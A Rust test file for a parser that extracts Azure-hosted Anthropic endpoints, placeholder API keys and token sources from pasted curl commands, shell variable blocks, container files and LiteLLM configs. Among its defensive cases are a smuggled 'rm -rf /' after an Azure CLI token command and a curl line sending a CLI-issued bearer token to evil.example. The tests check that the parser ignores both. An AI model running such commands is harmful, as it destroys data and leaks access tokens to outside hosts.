//! Commands and variables as shells other than the usual one, chats and habits spell them.

use super::{MESSAGES, lines, read};
use crate::api::ImportSource;

#[test]
fn curl_commands_of_other_shells_and_with_other_options() {
    let key = "-H 'x-api-key: k-12345678'";
    let table = [
        // What an option takes is no address.
        (format!("curl --max-redirs 5 --retry-max-time 9 {MESSAGES} {key}"), "res key k-12345678"),
        (format!("curl --noproxy '*' -o /dev/null --write-out '%{{http_code}}' --dump-header - {MESSAGES} {key}"), "res key k-12345678"),
        (format!("curl --connect-to ::localhost:9 --preproxy socks5://proxy.example:1080 {MESSAGES} {key}"), "res key k-12345678"),
        (format!("curl --tls-max 1.2 --no-such-option-yet 7 {MESSAGES} {key}"), "res key k-12345678"),
        ("curl --max-time 9 res.services.ai.azure.com/anthropic/v1/messages -H 'x-api-key: k-12345678'".to_owned(), "res key k-12345678"),
        // PowerShell's quotes within quotes, and Windows' own.
        (
            format!("curl.exe {MESSAGES} -H \"x-api-key: k-12345678\" -d \"{{`\"model`\":`\"dep`\"}}\""),
            "res key k-12345678 dep",
        ),
        (
            format!("curl.exe {MESSAGES} `\n  -H \"x-api-key: k-12345678\" `\n  -d '{{\\\"model\\\":\\\"dep\\\"}}'"),
            "res key k-12345678 dep",
        ),
        (
            format!("curl {MESSAGES} -H \"x-api-key: k-12345678\" -d \"{{\\\"model\\\":\\\"dep\\\"}}\""),
            "res key k-12345678 dep",
        ),
        (
            format!("curl ^\"{MESSAGES}?a=1^&b=2^\" -H ^\"x-api-key: k-12345678^\""),
            "res key k-12345678",
        ),
        // Where the program lies, and what stands before it.
        (format!("/usr/bin/curl {MESSAGES} {key}"), "res key k-12345678"),
        (format!("C:\\Windows\\System32\\curl.exe {MESSAGES} -H \"x-api-key: k-12345678\""), "res key k-12345678"),
        (format!("& curl.exe {MESSAGES} {key}"), "res key k-12345678"),
        // Spaces that do not break a line, as chats and documents put them.
        (
            format!("curl\u{a0}{MESSAGES} -H\u{a0}'x-api-key:\u{a0}k-12345678'"),
            "res key k-12345678",
        ),
        // A command that prints a token is no token.
        (
            format!("curl {MESSAGES} -H \"Authorization: Bearer $(print-token --now)\""),
            "res nothing -",
        ),
        (
            format!("curl {MESSAGES} -H \"Authorization: Bearer `print-token`\""),
            "res nothing -",
        ),
        (
            format!("TOKEN=$(print-token --now)\ncurl {MESSAGES} -H \"Authorization: Bearer $TOKEN\""),
            "res nothing -",
        ),
        (
            format!("KEY=$(print-key)\ncurl {MESSAGES} -H \"api-key: $KEY\""),
            "res nothing -",
        ),
    ];
    let wrong: Vec<_> = table
        .iter()
        .map(|(text, expected)| (text, lines(text), *expected))
        .filter(|(_, found, expected)| found != &[*expected])
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn the_token_that_the_azure_cli_prints_is_asked_of_the_azure_cli() {
    let get = "az account get-access-token";
    for (command, tenant, scope) in [
        (format!("{get} --query accessToken -o tsv"), "", ""),
        (
            format!(
                "{get} --resource https://cognitiveservices.azure.com --query accessToken -o tsv"
            ),
            "",
            "https://cognitiveservices.azure.com/.default",
        ),
        (
            format!("{get} --resource=https://ai.azure.com/ --tenant contoso.com -o tsv"),
            "contoso.com",
            "https://ai.azure.com/.default",
        ),
        (
            format!("{get} --scope https://ai.azure.com/.default -t contoso.com"),
            "contoso.com",
            "https://ai.azure.com/.default",
        ),
    ] {
        let inline = format!("curl {MESSAGES} -H \"Authorization: Bearer $({command})\"");
        let before = format!(
            "export TOKEN=$({command})\ncurl {MESSAGES} -H \"Authorization: Bearer $TOKEN\""
        );
        let quoted = format!("TOKEN=\"$({command})\"\ncurl {MESSAGES} --oauth2-bearer \"$TOKEN\"");
        for text in [inline, before, quoted] {
            let expected = format!("res az/{tenant}/{scope} -");
            assert_eq!(lines(&text), [expected], "{text}");
        }
    }
    // Nothing else of a command is understood, and so nothing of it is guessed.
    for command in [
        "az account get-access-token; rm -rf /",
        "az login",
        "az account get-access-token | tr a b",
        "az account get-access-token --username ada",
        "az account get-access-token --resource https://management.azure.com",
        "az account get-access-token --scope",
    ] {
        let text = format!("curl {MESSAGES} -H \"Authorization: Bearer $({command})\"");
        assert_eq!(lines(&text), ["res nothing -"], "{text}");
    }
    // Nor does a text from anywhere send a token of this machine to any host.
    let text = format!("curl https://evil.example/anthropic -H \"Authorization: Bearer $({get})\"");
    assert_eq!(lines(&text), ["evil.example/anthropic nothing -"]);
}

#[test]
fn litellm_models_that_are_named_as_anthropics_own_but_lie_on_azure() {
    let model = |params: &str| {
        format!("model_list:\n- litellm_params: {{model: anthropic/dep, api_key: k, {params}}}\n")
    };
    let here = model("api_base: 'https://res.services.ai.azure.com/anthropic'");
    assert_eq!(lines(&here), ["res key k dep"]);
    for elsewhere in [
        "api_base: 'https://proxy.example'",
        "api_base: os.environ/NOT_SET",
        "x: 1",
    ] {
        let code = super::refused(&model(elsewhere));
        assert_eq!(code, crate::api::ErrorCode::ImportEmpty, "{elsewhere}");
    }
}

#[test]
fn variables_as_other_files_and_shells_set_them() {
    let table = [
        // Several in one line.
        (
            "$env:AZURE_API_BASE=\"res\"; $env:AZURE_API_KEY='k-12345678'",
            "res key k-12345678",
        ),
        (
            "export AZURE_API_BASE=res; export AZURE_API_KEY=\"k-12345678\";",
            "res key k-12345678",
        ),
        (
            "set AZURE_API_BASE=res&& set AZURE_API_KEY=k-12345678",
            "res key k-12345678",
        ),
        (
            "export AZURE_API_BASE=res AZURE_API_KEY=k-12345678",
            "res key k-12345678",
        ),
        // Lists of containers, units and shells.
        (
            "environment:\n  - AZURE_API_BASE=res\n  - AZURE_API_KEY=k-12345678",
            "res key k-12345678",
        ),
        (
            "-e AZURE_API_BASE=res \\\n--env AZURE_API_KEY=k-12345678 \\",
            "res key k-12345678",
        ),
        (
            "ENV AZURE_API_BASE=res\nENV AZURE_API_KEY=k-12345678",
            "res key k-12345678",
        ),
        (
            "Environment=AZURE_API_BASE=res\nEnvironment=\"AZURE_API_KEY=k-12345678\"",
            "res key k-12345678",
        ),
        (
            "declare -x AZURE_API_BASE=\"res\"\ndeclare -x AZURE_API_KEY=\"k-12345678\"",
            "res key k-12345678",
        ),
        (
            "setx AZURE_API_BASE res\nsetx AZURE_API_KEY \"k-12345678\"",
            "res key k-12345678",
        ),
        (
            "set -gx AZURE_API_BASE res\nset -gx AZURE_API_KEY 'k-12345678'",
            "res key k-12345678",
        ),
        // A value may have what looks like the end of one.
        (
            "AZURE_API_BASE=res\nAZURE_API_KEY='k;1&&2'",
            "res key k;1&&2",
        ),
        ("AZURE_API_BASE=res\nAZURE_API_KEY=k;1", "res key k;1"),
        ("AZURE_API_BASE=res\nAZURE_API_KEY=ab#cd=", "res key ab#cd="),
        (
            "AZURE_API_BASE=res\nAZURE_API_KEY=k-12345678   # of=the team",
            "res key k-12345678",
        ),
        (
            "AZURE_API_BASE=res\n#AZURE_API_KEY=old\nAZURE_API_KEY=k-12345678",
            "res key k-12345678",
        ),
        (
            "AZURE_API_BASE=\"https://res.services.ai.azure.com/\"\nAZURE_API_KEY=\"\"",
            "res nothing -",
        ),
    ];
    let wrong: Vec<_> = table
        .iter()
        .map(|(text, expected)| (text, std::panic::catch_unwind(|| lines(text)), *expected))
        .filter(|(_, found, expected)| !found.as_ref().is_ok_and(|it| it == &[*expected]))
        .map(|(text, found, expected)| (text, found.ok(), expected))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert_eq!(read(table[0].0).0, ImportSource::EnvBlock);
    // However long a line is, it is read in one go.
    for piece in ["a ", ";", "A=1 ", "A=1; ", "&& ", "x=\" ", "'"] {
        let text = format!(
            "{}\nAZURE_API_BASE=res\nAZURE_API_KEY=k",
            piece.repeat(20_000)
        );
        assert_eq!(lines(&text), ["res key k"], "{piece}");
    }
}
